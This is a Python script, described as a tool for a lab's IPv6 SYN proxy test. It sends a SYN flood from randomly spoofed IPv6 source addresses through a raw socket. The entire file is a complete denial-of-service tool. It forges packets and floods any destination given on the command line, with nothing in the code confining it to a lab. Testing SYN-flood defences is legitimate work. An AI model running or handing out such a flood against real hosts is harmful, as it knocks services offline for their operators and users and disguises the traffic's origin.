#!/usr/bin/env python3
"""An IPv6 SYN flood from spoofed sources, for the lab's IPv6 SYN proxy test (hping3 has no
IPv6).

Runs in the client's namespace and sends TCP SYNs to --dst port --dport for --seconds, each
from a random address of --src-prefix (a /64 or shorter, off every lab link, so that the
answers go to the lab router and nowhere else) and a random port, through an AF_INET6 raw
socket with IPPROTO_RAW (the kernel takes the IPv6 header as written: no check of the source).
Every SYN is otherwise valid: hop limit 64, Linux's SYN options (MSS 1440, SACK permitted,
timestamps, window scale 7), a TCP checksum over the RFC 8200 pseudo-header. --pool distinct
SYNs are built first and sent round and round, as fast as the socket takes them (or --rate
per second).

Prints one JSON object: {"sent", "errors", "seconds", "pool"}.
Python 3 standard library only. Needs CAP_NET_RAW (root).
"""

import argparse
import ipaddress
import json
import os
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, isn: int, tsval: int) -> bytes:
    opts = struct.pack("!BBH", 2, 4, 1440) + bytes([4, 2]) + struct.pack("!BBII", 8, 10, tsval, 0)
    opts += bytes([1, 3, 3, 7])
    hl = (20 + len(opts)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, hl << 4, 0x02, 64800, 0, 0) + opts
    pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
    c = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!IHBB", 0x60000000, len(tcp), 6, 64) + src + dst
    return ip + tcp


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--src-prefix", default="2001:db8:77::/48")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--pool", type=int, default=50000)
    ap.add_argument("--rate", type=int, default=0, help="SYNs per second (0: as fast as possible)")
    args = ap.parse_args()

    net = ipaddress.IPv6Network(args.src_prefix)
    host_bits = 128 - net.prefixlen
    base = int(net.network_address)
    dst = ipaddress.IPv6Address(args.dst).packed
    pool = []
    for _ in range(args.pool):
        r = int.from_bytes(os.urandom(16), "big") & ((1 << host_bits) - 1)
        src = (base | r | 1).to_bytes(16, "big")
        sport = 1024 + int.from_bytes(os.urandom(2), "big") % 64000
        isn = int.from_bytes(os.urandom(4), "big")
        pool.append(syn(src, dst, sport, args.dport, isn, int.from_bytes(os.urandom(4), "big")))

    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = (args.dst, 0)
    sent = errors = 0
    start = time.monotonic()
    end = start + args.seconds
    gap = 1.0 / args.rate if args.rate else 0.0
    next_at = start
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for _ in range(64):
            try:
                s.sendto(pool[i], target)
                sent += 1
            except OSError:
                errors += 1
            i = (i + 1) % len(pool)
            if gap:
                next_at += gap
                pause = next_at - time.monotonic()
                if pause > 0:
                    time.sleep(pause)
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(time.monotonic() - start, 2),
                      "pool": len(pool)}))


if __name__ == "__main__":
    main()
